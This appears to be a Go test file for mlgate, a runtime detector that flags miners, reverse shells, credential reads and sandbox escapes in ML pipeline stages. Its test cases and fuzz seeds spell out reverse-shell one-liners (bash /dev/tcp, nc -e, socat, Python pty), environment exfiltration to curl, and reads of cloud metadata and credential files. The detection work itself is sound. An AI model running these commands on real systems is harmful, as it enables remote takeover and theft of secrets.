package run

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/mlgate/mlgate/finding"
)

func ids(fs []finding.Finding) map[string]bool {
	m := map[string]bool{}
	for _, f := range fs {
		m[f.RuleID] = true
	}
	return m
}

func bptr(b bool) *bool { return &b }

// Each case is an event that must trigger rule (or, with want false, a
// close look-alike that must not).
func TestEventRules(t *testing.T) {
	exec := func(path string, argv ...string) Event {
		return Event{Kind: EventExec, Path: path, Argv: argv, PID: 5, PPID: 1}
	}
	withStdio := func(e Event, s ...string) Event { e.Stdio = s; return e }
	cases := []struct {
		name    string
		network string
		ev      Event
		rule    string
		want    bool
	}{
		{"xmrig binary", "", exec("/tmp/xmrig", "xmrig"), "run/crypto-miner", true},
		{"xmrig with version suffix", "", exec("/opt/xmrig-6.21.0", "xmrig-6.21.0"), "run/crypto-miner", true},
		{"stratum url", "", exec("/usr/bin/python3", "python3", "worker.py", "-o", "stratum+tcp://1.2.3.4:3333"), "run/crypto-miner", true},
		{"pool domain on command line", "", exec("/usr/local/bin/w", "w", "--url", "gulf.moneroocean.stream:10128"), "run/crypto-miner", true},
		{"file named like a miner is only an argument", "", exec("/usr/bin/cat", "cat", "notes/xmrig.txt"), "run/crypto-miner", false},
		{"stratum word without scheme", "", exec("/usr/bin/grep", "grep", "stratum", "docs.md"), "run/crypto-miner", false},
		{"minerva is not a miner", "", exec("/usr/bin/minerva", "minerva"), "run/crypto-miner", false},

		{"connect to pool port", "", Event{Kind: EventConnect, Family: "inet", Addr: "45.9.148.1", Port: 3333}, "run/miner-pool-port", true},
		{"loopback on pool port", "", Event{Kind: EventConnect, Family: "inet", Addr: "127.0.0.1", Port: 3333}, "run/miner-pool-port", false},
		{"https port", "", Event{Kind: EventConnect, Family: "inet", Addr: "45.9.148.1", Port: 443}, "run/miner-pool-port", false},
		{"proxy to pool domain", "allow", Event{Kind: EventEgress, Host: "xmr.2miners.com", Port: 2222, Allowed: bptr(false)}, "run/crypto-miner", true},

		{"shell on tcp socket", "", withStdio(exec("/bin/sh", "sh", "-i"), "tcp", "tcp", "tcp"), "run/reverse-shell", true},
		{"shell on unix socket", "", withStdio(exec("/bin/sh", "sh", "-i"), "socket", "socket", "pipe"), "run/reverse-shell", false},
		{"shell on pipes", "", withStdio(exec("/bin/bash", "bash", "-c", "make"), "pipe", "pipe", "pipe"), "run/reverse-shell", false},
		{"bash /dev/tcp", "", exec("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), "run/reverse-shell", true},
		{"/dev/tcp mentioned by grep", "", exec("/usr/bin/grep", "grep", "-r", "/dev/tcp/host/1", "."), "run/reverse-shell", false},
		{"nc -e", "", exec("/usr/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"), "run/reverse-shell", true},
		{"nc port scan", "", exec("/usr/bin/nc", "nc", "-z", "-v", "db", "5432"), "run/reverse-shell", false},
		{"ncat --sh-exec", "", exec("/usr/bin/ncat", "ncat", "--sh-exec", "bash", "h", "1"), "run/reverse-shell", true},
		{"socat exec", "", exec("/usr/bin/socat", "socat", "exec:bash -li,pty,stderr", "tcp:10.0.0.1:4444"), "run/reverse-shell", true},
		{"socat plain relay", "", exec("/usr/bin/socat", "socat", "tcp-listen:8080", "tcp:db:5432"), "run/reverse-shell", false},
		{"python pty reverse shell", "", exec("/usr/bin/python3", "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"), "run/reverse-shell", true},
		{"python socket one-liner", "", exec("/usr/bin/python3", "python3", "-c", "import socket; print(socket.gethostname())"), "run/reverse-shell", false},

		{"curl offline", "none", exec("/usr/bin/curl", "curl", "https://x"), "run/network-tool-offline", true},
		{"curl with network", "allow", exec("/usr/bin/curl", "curl", "https://x"), "run/network-tool-offline", false},
		{"curl-config offline", "none", exec("/usr/bin/curl-config", "curl-config", "--libs"), "run/network-tool-offline", false},

		{"http.server", "", exec("/usr/bin/python3", "python3", "-m", "http.server", "8000"), "run/http-server", true},
		{"http.client test", "", exec("/usr/bin/python3", "python3", "-m", "http.client"), "run/http-server", false},

		{"docker socket", "none", Event{Kind: EventConnect, Family: "unix", Addr: "/var/run/docker.sock"}, "run/host-socket-connect", true},
		{"host dbus socket", "none", Event{Kind: EventConnect, Family: "unix", Addr: "/run/dbus/system_bus_socket"}, "run/host-socket-connect", true},
		{"stage's own socket in /tmp", "none", Event{Kind: EventConnect, Family: "unix", Addr: "/tmp/worker.sock"}, "run/host-socket-connect", false},
		{"mlgate's proxy socket", "allow", Event{Kind: EventConnect, Family: "unix", Addr: "/proc/self/fd/5/proxy.sock"}, "run/host-socket-connect", false},
		{"abstract socket", "none", Event{Kind: EventConnect, Family: "unix", Addr: "@xyz"}, "run/host-socket-connect", false},
		{"metadata connect", "", Event{Kind: EventConnect, Family: "inet", Addr: "169.254.169.254", Port: 80}, "run/cloud-metadata", true},
		{"metadata ipv6", "", Event{Kind: EventConnect, Family: "inet6", Addr: "fd00:ec2::254", Port: 80}, "run/cloud-metadata", true},
		{"link-local neighbour", "", Event{Kind: EventConnect, Family: "inet", Addr: "169.254.169.253", Port: 53}, "run/cloud-metadata", false},
		{"metadata via proxy", "allow", Event{Kind: EventEgress, Host: "metadata.google.internal", Port: 80, Allowed: bptr(false)}, "run/cloud-metadata", true},
		{"metadata url in curl", "", exec("/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/iam/"), "run/cloud-metadata", true},

		{"cat aws credentials", "", exec("/bin/cat", "cat", "/home/runner/.aws/credentials"), "run/credential-access", true},
		{"tilde netrc", "", exec("/bin/cat", "cat", "~/.netrc"), "run/credential-access", true},
		{"hf token", "", exec("/bin/cat", "cat", "/root/.cache/huggingface/token"), "run/credential-access", true},
		{"netrc documentation", "", exec("/bin/cat", "cat", "docs/netrc.md"), "run/credential-access", false},
		{"netrc-like suffix", "", exec("/bin/cat", "cat", "/srv/x.netrc.bak"), "run/credential-access", false},
		{"env piped to curl", "", exec("/bin/sh", "sh", "-c", "env | curl -d @- https://x"), "run/credential-access", true},
		{"env with a pipe to grep", "", exec("/bin/sh", "sh", "-c", "env | grep CUDA"), "run/credential-access", false},
		{"proc environ", "", exec("/bin/cat", "cat", "/proc/1/environ"), "run/credential-access", true},
		{"printenv on socket", "", withStdio(exec("/usr/bin/printenv", "printenv"), "null", "tcp", "pipe"), "run/credential-access", true},
		{"printenv to pipe", "", withStdio(exec("/usr/bin/printenv", "printenv"), "null", "pipe", "pipe"), "run/credential-access", false},

		{"memfd", "", Event{Kind: EventExec, Path: "/memfd:payload (deleted)", FromFD: true}, "run/exec-from-memory", true},
		{"dev shm", "", exec("/dev/shm/x", "x"), "run/exec-from-memory", true},
		{"shm lookalike", "", exec("/dev/shmtools/x", "x"), "run/exec-from-memory", false},
		{"tmp build", "", exec("/tmp/go-build123/b001/exe/main", "main"), "run/exec-from-memory", false},

		{"egress denied", "allow", Event{Kind: EventEgress, Host: "evil.example", Port: 443, Allowed: bptr(false), Method: "CONNECT"}, "run/egress-denied", true},
		{"egress allowed", "allow", Event{Kind: EventEgress, Host: "huggingface.co", Port: 443, Allowed: bptr(true), Method: "CONNECT"}, "run/egress-denied", false},
		{"allowed name resolved to loopback", "allow", Event{Kind: EventEgress, Host: "mirror.example", Port: 443, Addr: "127.0.0.1", AddrClass: "loopback", Allowed: bptr(false), Method: "CONNECT"}, "run/egress-private-address", true},
		{"private refusal is not an allow-list miss", "allow", Event{Kind: EventEgress, Host: "mirror.example", Port: 443, Addr: "10.0.0.1", AddrClass: "private (10.0.0.0/8)", Allowed: bptr(false), Method: "CONNECT"}, "run/egress-denied", false},
		{"allow-list miss is not a private refusal", "allow", Event{Kind: EventEgress, Host: "evil.example", Port: 443, Allowed: bptr(false), Method: "CONNECT"}, "run/egress-private-address", false},
		{"allowed name with a private address allowed", "allow", Event{Kind: EventEgress, Host: "mirror.example", Port: 443, Addr: "10.0.0.1", Allowed: bptr(true), Method: "CONNECT"}, "run/egress-private-address", false},
		{"name resolving to metadata", "allow", Event{Kind: EventEgress, Host: "innocent.example", Port: 80, Addr: "169.254.169.254", AddrClass: "cloud metadata", Allowed: bptr(false), Method: "CONNECT"}, "run/cloud-metadata", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			net := c.network
			if net == "" {
				net = NetworkAllow
			}
			d := newDetector(&Options{Network: net})
			ev := c.ev
			got := ids(d.event(&ev))[c.rule]
			if got != c.want {
				t.Errorf("%s on %+v: got %v, want %v", c.rule, c.ev, got, c.want)
			}
		})
	}
}

func TestUnexpectedExecutable(t *testing.T) {
	d := newDetector(&Options{Executables: []string{"/usr/bin/python3", "sh"}})
	for _, c := range []struct {
		path string
		want bool
	}{{"/usr/bin/python3", false}, {"/bin/sh", false}, {"/usr/bin/curl", true}} {
		ev := Event{Kind: EventExec, Path: c.path}
		if got := ids(d.event(&ev))["run/unexpected-executable"]; got != c.want {
			t.Errorf("%s: got %v want %v", c.path, got, c.want)
		}
	}
	if ids(newDetector(&Options{}).event(&Event{Kind: EventExec, Path: "/usr/bin/curl"}))["run/unexpected-executable"] {
		t.Error("no policy executables: nothing is unexpected")
	}
}

func TestFinalRules(t *testing.T) {
	sec := time.Second
	hist := []time.Duration{10 * sec, 11 * sec, 12 * sec, 9 * sec}
	cases := []struct {
		name string
		o    Options
		res  Result
		rule string
		want bool
	}{
		{"site-packages added", Options{}, Result{FileChanges: []FileChange{{Path: "/usr/lib/python3/dist-packages/evil.pth", Change: ChangeAdded, Root: "/usr/lib/python3/dist-packages"}}}, "run/site-packages-modified", true},
		{"output dir change is not site-packages", Options{RW: []string{"/out"}}, Result{FileChanges: []FileChange{{Path: "/out/model.bin", Change: ChangeAdded, Root: "/out"}}}, "run/site-packages-modified", false},
		{"watched change", Options{Watch: []string{"/out"}}, Result{FileChanges: []FileChange{{Path: "/out/model.bin", Change: ChangeModified, Root: "/out"}}}, "run/watched-path-changed", true},
		{"rw change not watched", Options{RW: []string{"/out"}}, Result{FileChanges: []FileChange{{Path: "/out/model.bin", Change: ChangeModified, Root: "/out"}}}, "run/watched-path-changed", false},
		{"far longer than history", Options{History: hist}, Result{Duration: 45 * sec}, "run/duration-anomaly", true},
		{"a little longer", Options{History: hist}, Result{Duration: 20 * sec}, "run/duration-anomaly", false},
		{"too little history", Options{History: hist[:2]}, Result{Duration: 450 * sec}, "run/duration-anomaly", false},
		{"landlock missing", Options{}, Result{Layers: []Layer{{Name: LayerLandlock, Reason: "ENOSYS"}}}, "run/isolation-layer-missing", true},
		{"proxy off by design", Options{Network: NetworkNone}, Result{Layers: []Layer{{Name: LayerEgressProxy, Reason: "not needed"}, {Name: LayerLandlock, Active: true}}}, "run/isolation-layer-missing", false},
		{"absolute symlink in output", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/creds", Change: ChangeAdded, Root: "/w/out", Type: FileTypeSymlink, Target: "/home/runner/.aws/credentials"}}}, "run/output-symlink-escape", true},
		{"climbing symlink in output", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/sub/x", Change: ChangeModified, Root: "/w/out", Type: FileTypeSymlink, Target: "../../ci/deploy.sh"}}}, "run/output-symlink-escape", true},
		{"climbing symlink in a watched tree", Options{Watch: []string{"/w/models"}}, Result{FileChanges: []FileChange{{Path: "/w/models/m", Change: ChangeAdded, Root: "/w/models", Type: FileTypeSymlink, Target: "../../../etc/shadow"}}}, "run/output-symlink-escape", true},
		{"relative symlink inside output", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/sub/latest", Change: ChangeAdded, Root: "/w/out", Type: FileTypeSymlink, Target: "../model-7.bin"}}}, "run/output-symlink-escape", false},
		{"absolute symlink into the same output", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/latest", Change: ChangeAdded, Root: "/w/out", Type: FileTypeSymlink, Target: "/w/out/model-7.bin"}}}, "run/output-symlink-escape", false},
		{"name with dots stays inside", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/a", Change: ChangeAdded, Root: "/w/out", Type: FileTypeSymlink, Target: "..b/c"}}}, "run/output-symlink-escape", false},
		{"removed symlink", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/old", Change: ChangeRemoved, Root: "/w/out", Type: FileTypeSymlink}}}, "run/output-symlink-escape", false},
		{"symlink outside outputs and watches", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/usr/lib/python3/dist-packages/x", Change: ChangeAdded, Root: "/usr/lib/python3/dist-packages", Type: FileTypeSymlink, Target: "/etc/passwd"}}}, "run/output-symlink-escape", false},
		{"new file linked from elsewhere", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/m.bin", Change: ChangeAdded, Root: "/w/out", Type: FileTypeRegular, Nlink: 2, NamesSeen: 1}}}, "run/output-hardlink-escape", true},
		{"new file linked inside the output", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/m.bin", Change: ChangeAdded, Root: "/w/out", Type: FileTypeRegular, Nlink: 2, NamesSeen: 2}}}, "run/output-hardlink-escape", false},
		{"old file with links modified", Options{RW: []string{"/w/out"}}, Result{FileChanges: []FileChange{{Path: "/w/out/m.bin", Change: ChangeModified, Root: "/w/out", Type: FileTypeRegular, Nlink: 3, NamesSeen: 1}}}, "run/output-hardlink-escape", false},
		{"linked file in a watch, not an output", Options{Watch: []string{"/w/data"}}, Result{FileChanges: []FileChange{{Path: "/w/data/m.bin", Change: ChangeAdded, Root: "/w/data", Type: FileTypeRegular, Nlink: 2, NamesSeen: 1}}}, "run/output-hardlink-escape", false},
		{"linked credential", Options{}, Result{HiddenLinked: []string{"/home/r/.netrc (2 links)"}}, "run/credential-hard-link", true},
		{"credentials with one link", Options{}, Result{Layers: []Layer{{Name: LayerCredentials, Active: true, Reason: "hidden: /home/r/.netrc"}}}, "run/credential-hard-link", false},
		{"host network by request", Options{Network: NetworkHost}, Result{Layers: []Layer{{Name: LayerNetNS, Reason: "--network host"}}}, "run/isolation-layer-missing", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			d := newDetector(&c.o)
			if got := ids(d.final(&c.res))[c.rule]; got != c.want {
				t.Errorf("%s: got %v want %v", c.rule, got, c.want)
			}
		})
	}
}

func TestDetectorDeduplicates(t *testing.T) {
	d := newDetector(&Options{Network: NetworkNone})
	n := 0
	for i := 0; i < 5; i++ {
		ev := Event{Kind: EventExec, Path: "/usr/bin/curl", Argv: []string{"curl", "x"}, PID: 10 + i}
		n += len(d.event(&ev))
	}
	if n != 1 {
		t.Errorf("%d findings for five identical execs, want 1", n)
	}
}

func TestRulesRegistered(t *testing.T) {
	for _, id := range []string{"run/crypto-miner", "run/miner-pool-port", "run/reverse-shell", "run/network-tool-offline", "run/http-server",
		"run/cloud-metadata", "run/credential-access", "run/exec-from-memory", "run/site-packages-modified", "run/watched-path-changed",
		"run/duration-anomaly", "run/egress-denied", "run/egress-private-address", "run/unexpected-executable", "run/isolation-layer-missing",
		"run/output-symlink-escape", "run/output-hardlink-escape", "run/credential-hard-link"} {
		if _, ok := finding.Lookup(id); !ok {
			t.Errorf("%s not registered", id)
		}
	}
}

// FuzzDetector feeds arbitrary command lines and destinations to the
// event rules: they must not panic, and every finding must be registered.
func FuzzDetector(f *testing.F) {
	f.Add("/bin/sh", "sh\x00-c\x00bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "tcp", "169.254.169.254", 3333)
	f.Add("/usr/bin/nc", "nc\x00-e\x00/bin/sh", "", "", 0)
	f.Add("/memfd:x (deleted)", "python3\x00-c\x00import socket,pty;pty.spawn('/bin/sh')", "socket", "fd00:ec2::254", 80)
	f.Fuzz(func(t *testing.T, path, args, stdio, addr string, port int) {
		d := newDetector(&Options{Network: NetworkNone, Executables: []string{"/bin/sh"}, Watch: []string{"/w"}, ModelOutput: "/w", ModelWriters: strings.Split(stdio, ",")})
		d.resolveExe = func(p string) []string { return []string{p, path} }
		argv := strings.Split(args, "\x00")
		evs := []Event{
			{Kind: EventExec, Path: path, Argv: argv, Stdio: strings.Split(stdio, ",")},
			{Kind: EventExec, Path: path, Argv: argv, FromFD: true},
			{Kind: EventConnect, Family: "inet", Addr: addr, Port: port},
			{Kind: EventSendto, Family: "inet6", Addr: addr, Port: port},
			{Kind: EventEgress, Host: addr, Port: port, Allowed: bptr(port%2 == 0)},
			{Kind: EventWrite, Op: stdio, Path: path, From: addr, Exe: args, PID: port, Argv: argv},
			{Kind: EventWrite, Op: OpRename, Path: addr, From: path, Exe: path, PID: port},
		}
		for i := range evs {
			for _, f := range d.event(&evs[i]) {
				if _, ok := finding.Lookup(f.RuleID); !ok {
					t.Fatalf("unregistered rule %s", f.RuleID)
				}
			}
		}
		_ = d.final(&Result{FileChanges: []FileChange{{Path: path, Change: ChangeAdded, Root: addr}}, Layers: []Layer{{Name: stdio}}})
	})
}

func TestModelWriterRule(t *testing.T) {
	resolve := func(p string) []string {
		if p == "/usr/bin/python3" {
			return []string{p, "/usr/bin/python3.11"}
		}
		if p == "/work/train.sh" {
			return []string{p, "/bin/bash"}
		}
		return []string{p}
	}
	w := func(pid int, exe, op, path, from string) Event {
		return Event{Kind: EventWrite, PID: pid, PPID: 2, Exe: exe, Op: op, Path: path, From: from}
	}
	cases := []struct {
		name string
		o    Options
		top  string // the stage's first exec
		ev   Event
		want bool
	}{
		{"training process writes its checkpoint", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(2, "/usr/bin/python3.11", OpOpen, "/out/model.bin", ""), false},
		{"forked worker with the same executable", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(9, "/usr/bin/python3.11", OpOpen, "/out/shard-1.bin", ""), false},
		{"script's interpreter is the writer", Options{ModelOutput: "/out"}, "/work/train.sh", w(7, "/bin/bash", OpOpen, "/out/model.bin", ""), false},
		{"shell child writes the model", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(8, "/usr/bin/dash", OpOpen, "/out/model.bin", ""), true},
		{"curl -o into the model output", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(8, "/usr/bin/curl", OpOpen, "/out/model.safetensors", ""), true},
		{"cp renames into the model output", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(8, "/usr/bin/mv", OpRename, "/out/model.bin", "/tmp/evil.bin"), true},
		{"moved out of the model output", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(8, "/usr/bin/mv", OpRename, "/elsewhere/x", "/out/model.bin"), true},
		{"shell writes another --rw path", Options{ModelOutput: "/out", RW: []string{"/logs"}}, "/usr/bin/python3", w(8, "/usr/bin/dash", OpOpen, "/logs/train.log", ""), false},
		{"sibling directory with a common prefix", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(8, "/usr/bin/dash", OpOpen, "/outputs/x", ""), false},
		{"no model output declared", Options{}, "/usr/bin/python3", w(8, "/usr/bin/dash", OpOpen, "/out/model.bin", ""), false},
		{"policy writer glob matches", Options{ModelOutput: "/out", ModelWriters: []string{"/usr/bin/python3*", "cp"}}, "/usr/bin/python3", w(8, "/usr/bin/cp", OpOpen, "/out/model.bin", ""), false},
		{"policy writers replace the default", Options{ModelOutput: "/out", ModelWriters: []string{"cp"}}, "/usr/bin/python3", w(2, "/usr/bin/python3.11", OpOpen, "/out/model.bin", ""), true},
		{"unknown process", Options{ModelOutput: "/out"}, "/usr/bin/python3", w(0, "", OpTruncate, "/out/model.bin", ""), true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			d := newDetector(&c.o)
			d.resolveExe = resolve
			d.event(&Event{Kind: EventExec, PID: 2, Path: c.top})
			got := ids(d.event(&c.ev))["run/unexpected-model-writer"]
			if got != c.want {
				t.Errorf("got %v want %v", got, c.want)
			}
		})
	}
}

func TestResolveExecutableFollowsShebang(t *testing.T) {
	dir := t.TempDir()
	script := dir + "/train"
	if err := os.WriteFile(script, []byte("#!/bin/sh -e\necho hi\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	envScript := dir + "/train-env"
	if err := os.WriteFile(envScript, []byte("#!/usr/bin/env python3\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	got := strings.Join(resolveExecutable(script), " ")
	if !strings.Contains(got, "/bin/sh") {
		t.Errorf("interpreter not followed: %s", got)
	}
	if got := resolveExecutable(envScript); len(got) != 1 {
		t.Errorf("env is followed through its exec, not its shebang: %v", got)
	}
}
